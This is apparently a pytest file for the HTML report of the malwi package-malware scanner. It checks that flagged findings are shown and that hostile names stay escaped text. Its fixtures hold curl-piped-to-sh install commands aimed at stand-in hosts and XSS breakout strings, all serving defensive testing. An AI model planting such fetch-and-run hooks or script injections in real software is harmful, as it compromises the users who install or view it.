"""The HTML report (`--format html`), read back with the standard library's HTML parser.

The trees are built in temporary folders from defanged text; nothing here is imported or run,
and the page is parsed, never opened in a browser. One package in them names itself, its file
and its strings to break out of the page (`<script>`, `</pre>`, event handlers): it must show
as text and add no element.
"""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from malwi.report import BatchReport, MalwiReport
from malwi.report.html import SCRIPT, STYLE
from malwi.report.render import FORMATS, render
from malwi.report.words import reason

from .conftest import EXAMPLES, run_malwi
from .conftest import write_tree as write
from .test_engines import OBFUSCATED_JS
from .tiny_model import build_tiny_bundle

HOSTILE_NAME = '<img src=x onerror="alert(4)">'
HOSTILE_DIR = "<script>alert(1)<"  # with the file name below, the path reads <script>alert(1)</script>
HOSTILE_FILE = "script>\u202e.py"
BREAKOUT = "</code></pre><script>alert(2)</script><b onclick=alert(3)>x</b>"
HOSTILE_CODE = (
    "import os\n\n\ndef run():\n"
    f"    banner = {json.dumps(BREAKOUT)}\n"
    '    os.system("curl -s http://203.0.113.9/x | sh")\n'
)
GOOD_CODE = "def add(a, b):\n    return a + b\n"

VOID = {"meta", "br", "hr", "img", "input", "link", "area", "base", "col", "embed", "source", "track", "wbr"}
# Every element and attribute the renderer writes: anything else was injected.
ELEMENTS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "main",
    "footer",
    "script",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "dl",
    "dt",
    "dd",
    "section",
    "article",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "button",
    "a",
    "code",
    "pre",
    "span",
    "ul",
    "li",
}
ATTRIBUTES = {
    "lang",
    "charset",
    "http-equiv",
    "name",
    "content",
    "class",
    "id",
    "href",
    "scope",
    "type",
    "data-type",
    "data-sort",
}


class Node:
    def __init__(self, tag: str, attrs: list[tuple[str, str | None]], parent: Node | None) -> None:
        self.tag = tag
        self.attrs = {name: value or "" for name, value in attrs}
        self.parent = parent
        self.children: list[Node | str] = []

    @property
    def classes(self) -> set[str]:
        return set(self.attrs.get("class", "").split())

    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text() for c in self.children)

    def walk(self) -> list[Node]:
        found = []
        for child in self.children:
            if isinstance(child, Node):
                found += [child, *child.walk()]
        return found

    def all(self, tag: str, css: str | None = None) -> list[Node]:
        return [n for n in self.walk() if n.tag == tag and (css is None or css in n.classes)]

    def one(self, tag: str, css: str | None = None) -> Node:
        found = self.all(tag, css)
        assert len(found) == 1, (tag, css, len(found))
        return found[0]


class Page(HTMLParser):
    """The document as a tree; end tags that close something other than the open element are
    recorded, so a page that is not well nested fails."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", [], None)
        self.current = self.root
        self.doctype = ""
        self.misnested: list[str] = []
        self.feed(markup)
        self.close()
        assert self.current is self.root, f"unclosed <{self.current.tag}>"

    def handle_decl(self, decl: str) -> None:
        self.doctype = decl

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, attrs, self.current)
        self.current.children.append(node)
        if tag not in VOID:
            self.current = node

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.current.children.append(Node(tag, attrs, self.current))

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if self.current.tag != tag or self.current.parent is None:
            self.misnested.append(tag)
            return
        self.current = self.current.parent

    def handle_data(self, data: str) -> None:
        self.current.children.append(data)


def parse(markup: str) -> Node:
    """The page's tree, after the checks every page passes: a doctype, well nested, only the
    elements and attributes the renderer writes, links that resolve, unique ids, and exactly
    its own script and style, which the page's policy allows by hash."""
    page = Page(markup)
    assert page.doctype.lower() == "doctype html"
    assert not page.misnested
    root = page.root
    nodes = root.walk()
    assert {n.tag for n in nodes} <= ELEMENTS, {n.tag for n in nodes} - ELEMENTS
    assert {a for n in nodes for a in n.attrs} <= ATTRIBUTES, {a for n in nodes for a in n.attrs} - ATTRIBUTES
    ids = [n.attrs["id"] for n in nodes if "id" in n.attrs]
    assert len(ids) == len(set(ids))
    for link in root.all("a"):
        assert link.attrs["href"].startswith("#") and link.attrs["href"][1:] in ids
    script, style = root.one("script"), root.one("style")
    assert script.text() == SCRIPT and style.text() == STYLE
    policy = next(m.attrs["content"] for m in root.all("meta") if m.attrs.get("http-equiv"))
    for body in (SCRIPT, STYLE):
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    assert "default-src 'none'" in policy
    for node in nodes:  # numbers only, and made by the renderer
        if "data-sort" in node.attrs:
            float(node.attrs["data-sort"])
    return root


def rows(table: Node) -> list[list[str]]:
    return [[cell.text() for cell in row.all("td")] for row in table.one("tbody").all("tr")]


def column(table: Node, name: str) -> int:
    return [th.text() for th in table.one("thead").all("th")].index(name)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """Three packages: a good one, the defanged malicious example, and a hostile one."""
    root = write(
        tmp_path / "tree",
        {
            "good/pyproject.toml": '[project]\nname = "good-lib"\nversion = "1.0"\n',
            "good/good_lib/__init__.py": GOOD_CODE,
            "hostile/pyproject.toml": f"[project]\nname = {json.dumps(HOSTILE_NAME)}\n",
            f"hostile/{HOSTILE_DIR}/{HOSTILE_FILE}": HOSTILE_CODE,
        },
    )
    shutil.copytree(EXAMPLES / "malicious-python", root / "bad")
    return root


def scan(path: Path, tiny: Path) -> MalwiReport:
    return MalwiReport.create(input_path=str(path), silent=True, model=tiny)


def test_html_is_a_format_of_the_one_table() -> None:
    assert "html" in FORMATS


def test_the_unit_table_lists_every_unit_with_its_verdict(tree: Path, tiny: Path) -> None:
    report = scan(tree, tiny)
    page = parse(render(report, "html"))
    table = page.one("table", "units")
    listed = rows(table)
    name, key, verdict, score, found = (
        column(table, c) for c in ("Package", "Folder", "Verdict", "Score", "Findings")
    )
    expected = {u.key: u for u in report.units}
    assert (
        {row[key] for row in listed} == set(expected) == {str(tree / d) for d in ("good", "bad", "hostile")}
    )
    for row in listed:
        unit = expected[row[key]]
        assert (row[name], row[verdict], row[score], row[found]) == (
            unit.label,
            unit.verdict,
            f"{unit.maliciousness:.2f}",
            str(len(unit.carriers)),
        )
    verdicts = {row[name]: row[verdict] for row in listed}
    assert verdicts == {"good-lib 1.0": "good", "bad": "malicious", HOSTILE_NAME: "malicious"}
    # The flagged first, as the JSON document orders them; sorting is by exact values.
    assert [row[key] for row in listed] == [u["key"] for u in report.to_dict()["units"]]
    cells = [r.all("td") for r in table.one("tbody").all("tr")]
    assert [float(c[score].attrs["data-sort"]) for c in cells] == pytest.approx(
        [expected[c[key].text()].maliciousness for c in cells], abs=1e-6
    )
    assert [c[verdict].attrs["data-sort"] for c in cells] == ["0", "0", "3"]
    # Every column header is a sort button.
    assert [th.one("button").text() for th in table.one("thead").all("th")][:2] == ["Package", "Folder"]
    summary = page.one("dl", "summary")
    facts = dict(zip((dt.text() for dt in summary.all("dt")), (dd.text() for dd in summary.all("dd"))))
    assert facts["Target"] == str(tree)
    assert facts["Verdict"] == "malicious"
    assert facts["Maliciousness"].startswith(
        f"{report.maliciousness:.2f} (malicious from {report.threshold:.2f}"
    )
    assert facts["Model"].startswith("tiny-test-model 0.0.1")
    assert facts["Packages"] == "3, 2 flagged"


def test_a_flagged_units_findings_carry_source_reason_and_where_they_run(tree: Path, tiny: Path) -> None:
    report = scan(tree, tiny)
    page = parse(render(report, "html"))
    bad = next(u for u in report.units if u.key == str(tree / "bad"))
    section = next(s for s in page.all("section", "unit") if s.one("p").text().endswith(bad.key))
    articles = section.all("article", "finding")
    assert len(articles) == len(bad.carriers) > 0
    for article, (file, obj) in zip(articles, bad.carriers):
        heading = article.all("h4")[0].text()
        assert heading.startswith(f"{file.path}:{obj.lines[0]}") and obj.name in heading
        facts = dict(zip((dt.text() for dt in article.all("dt")), article.all("dd")))
        assert facts["Why"].text() == reason(file, obj)
        assert facts["Runs"].text().startswith(f"{obj.reach}: ")
        assert [li.text() for li in facts["Activities"].all("li")] == obj.activities
        assert article.one("pre", "source").one("code").text() == obj.source
    install = next(a for a, (_, o) in zip(articles, bad.carriers) if o.name == "PostInstallCommand.run")
    assert 'os.system("curl -s http://updates.example.invalid/init.sh | sh")' in install.one("pre").text()
    assert "at install time (setup.py)" in install.one("span", "reason").text()
    # What the static engines found in its files beyond those objects: the payload in loader.py.
    static = section.one("ul", "static").all("li")
    loader = next(li for li in static if li.text().startswith(str(tree / "bad" / "loader.py")))
    assert [li.text() for li in loader.all("li")] == [
        "decoded payload at line 4 (base64): no listed activity"
    ]
    # The findings table links each row to its finding.
    table = page.one("table", "findings")
    links = [row.one("a").attrs["href"][1:] for row in table.one("tbody").all("tr")]
    assert len(links) == len(report.findings)
    targets = {n.attrs["id"]: n for n in page.all("article", "finding")}
    for link, (_, _, obj) in zip(links, report.findings):
        assert targets[link].one("pre").text() == obj.source


def test_a_good_unit_lists_nothing_but_its_row(tree: Path, tiny: Path) -> None:
    report = scan(tree, tiny)
    page = parse(render(report, "html"))
    good = next(u for u in report.units if u.key == str(tree / "good"))
    assert good.verdict == "good"
    row = next(r for r in page.one("table", "units").one("tbody").all("tr") if good.key in r.text())
    assert "v-good" in row.classes and not row.all("a")
    sections = page.all("section", "unit")
    assert len(sections) == 2 and all(good.key not in s.text() for s in sections)
    assert all(good.label not in r[0] for r in rows(page.one("table", "findings")))
    assert GOOD_CODE.strip() not in page.text()
    # A tree with only good code: no finding, no section, and the page says so.
    clean = parse(render(scan(tree / "good", tiny), "html"))
    assert not clean.all("article") and not clean.all("section") and not clean.all("table", "findings")
    assert clean.one("p", "none").text() == "No package is flagged."
    assert [r[3] for r in rows(clean.one("table", "units"))] == ["good"]


def test_install_scripts_and_what_was_not_scanned_are_shown(tmp_path: Path, tiny: Path) -> None:
    root = write(
        tmp_path / "tree",
        {
            "hooky/package.json": json.dumps(
                {
                    "name": "hooky",
                    "version": "1.0.0",
                    "scripts": {"postinstall": "curl -s http://203.0.113.9/a | sh"},
                }
            ),
            "hooky/index.js": "module.exports = 1;\n",
            "opaque/pyproject.toml": '[project]\nname = "opaque"\n',
            "opaque/opaque/__init__.py": "X = 1\n",
        },
    )
    (root / "opaque" / "opaque" / "core.pyc").write_bytes(b"\x6f\x0d\x0d\x0a\x00\x00\x00\x00binary")
    report = scan(root, tiny)
    page = parse(render(report, "html"))
    table = page.one("table", "units")
    assert {(r[0], r[3], r[column(table, "Not scanned")]) for r in rows(table)} == {
        ("hooky 1.0.0", "malicious", "0"),
        ("opaque", "incomplete", "1"),
    }
    sections = {s.one("p").text(): s for s in page.all("section", "unit")}
    hooky = sections[f"npm package: {root / 'hooky'}"]
    (hook,) = hooky.one("ul", "hooks").children
    assert isinstance(hook, Node)
    assert hook.text().startswith("postinstall: curl -s http://203.0.113.9/a | sh")
    assert [li.text() for li in hook.all("li")] == [
        "downloads http://203.0.113.9/a with curl",
        "pipes what the command before printed into sh",
    ]
    assert "an npm install script" in hooky.one("span", "reason").text()
    opaque = sections[f"Python package: {root / 'opaque'}"]
    assert not opaque.all("article")
    assert [li.text() for li in opaque.one("ul", "unscanned").all("li")] == [
        f"{root / 'opaque' / 'opaque' / 'core.pyc'}: compiled Python without its source: bytecode is not scanned"
    ]
    facts = page.one("dl", "summary")
    noted = dict(zip((d.text() for d in facts.all("dt")), (d.text() for d in facts.all("dd"))))
    assert noted["Not scanned"].startswith("1 part in 1 package")


def test_what_the_engines_find_in_a_good_unit_is_listed_apart(tmp_path: Path, tiny: Path) -> None:
    root = write(
        tmp_path / "tree",
        {
            "widget/package.json": json.dumps({"name": "widget", "version": "0.1.0"}),
            "widget/index.js": OBFUSCATED_JS,
        },
    )
    report = scan(root, tiny)
    assert [u.verdict for u in report.units] == ["good"]
    page = parse(render(report, "html"))
    assert not page.all("section") and not page.all("article")
    item = page.one("ul", "static").all("li")[0]
    assert item.text().startswith(f"{root / 'widget' / 'index.js'} 0.")
    assert "(in a package judged good)" in item.text()
    assert item.one("li").text().startswith("protected: javascript_obfuscator (")


def test_names_and_source_from_the_scanned_tree_stay_text(tree: Path, tiny: Path) -> None:
    report = scan(tree, tiny)
    markup = render(report, "html")
    page = parse(markup)  # no element or attribute beyond the renderer's own, one script
    hostile = next(u for u in report.units if u.key == str(tree / "hostile"))
    assert hostile.verdict == "malicious" and hostile.name == HOSTILE_NAME
    section = next(s for s in page.all("section", "unit") if s.one("p").text().endswith(hostile.key))
    assert section.one("h3").text().startswith(f"malicious {HOSTILE_NAME} ")
    shown_path = f"{tree}/hostile/<script>alert(1)</script>\\u202e.py"  # the override made visible
    run = next(a for a in section.all("article") if "· run (function)" in a.all("h4")[0].text())
    assert run.all("h4")[0].text().startswith(f"{shown_path}:4")
    assert BREAKOUT in run.one("pre").text()
    assert run.one("pre").one("code").children == [run.one("pre").text()]  # one text node, no element
    # In the markup itself the names appear only escaped, never as markup.
    for raw in ("<script>alert", "<img", "<b onclick", "</pre><script>", "\u202e"):
        assert raw not in markup
    assert markup.count("<script>") == 1 and markup.count("</script>") == 1
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup
    assert "&lt;img src=x onerror=&quot;alert(4)&quot;&gt;" in markup


def test_malwi_scan_writes_an_html_file(tree: Path, tiny: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.html"
    done = run_malwi(
        "scan", str(tree), "--format", "html", "-o", str(out), "--model", str(tiny), "--no-cache"
    )
    assert done.returncode == 1, done.stderr  # malicious
    assert not done.stdout
    page = parse(out.read_text(encoding="utf-8"))
    table = page.one("table", "units")
    verdicts = {r[column(table, "Package")]: r[column(table, "Verdict")] for r in rows(table)}
    assert verdicts == {"good-lib 1.0": "good", "bad": "malicious", HOSTILE_NAME: "malicious"}
    assert page.one("title").text() == f"malwi report: {tree}"
    # The verdict formats need the model.
    refused = run_malwi("scan", str(tree), "--format", "html", "--no-model")
    assert refused.returncode == 2 and b"needs the model" in refused.stderr


def test_a_batch_report_renders_each_package(tree: Path, tiny: Path) -> None:
    batch = BatchReport("requirements.txt")
    batch.reports = [scan(tree / "good", tiny), scan(tree / "bad", tiny)]
    batch.unresolved = [
        {
            "requirement": "<script>alert(5)</script>>=1",
            "reason": "not pinned",
            "origin": "requirements.txt:2",
        }
    ]
    batch.failed = [{"package": "left-pad 1.3.0", "origin": "requirements.txt:3", "error": "download failed"}]
    markup = render(batch, "html")
    page = parse(markup)
    assert "<script>alert" not in markup
    table = page.one("table", "targets")
    assert [(r[0], r[1]) for r in rows(table)] == [
        (str(tree / "good"), "good"),
        (str(tree / "bad"), "malicious"),
    ]
    targets = page.all("section", "target")
    assert [t.attrs["id"] for t in targets] == ["t1", "t2"]
    assert [t.all("h2")[0].text() for t in targets] == [str(tree / "good"), str(tree / "bad")]
    good, bad = targets
    assert not good.all("article") and good.one("p", "none").text() == "No package is flagged."
    names = [a.all("h5")[0].text() for a in bad.all("article", "finding")]
    carriers = batch.reports[1].findings
    assert len(names) == len(carriers) > 0
    assert all(obj.name in name for name, (_, _, obj) in zip(names, carriers))
    assert all(a.attrs["id"].startswith("t2-") for a in bad.all("article"))
    missing = [li.text() for li in page.one("ul", "unresolved").all("li")]
    assert missing == [
        "<script>alert(5)</script>>=1: not pinned (requirements.txt:2)",
        "left-pad 1.3.0: download failed",
    ]
    facts = page.all("dl", "summary")[0]
    assert dict(zip((d.text() for d in facts.all("dt")), (d.text() for d in facts.all("dd"))))["Verdict"] == (
        "malicious"
    )
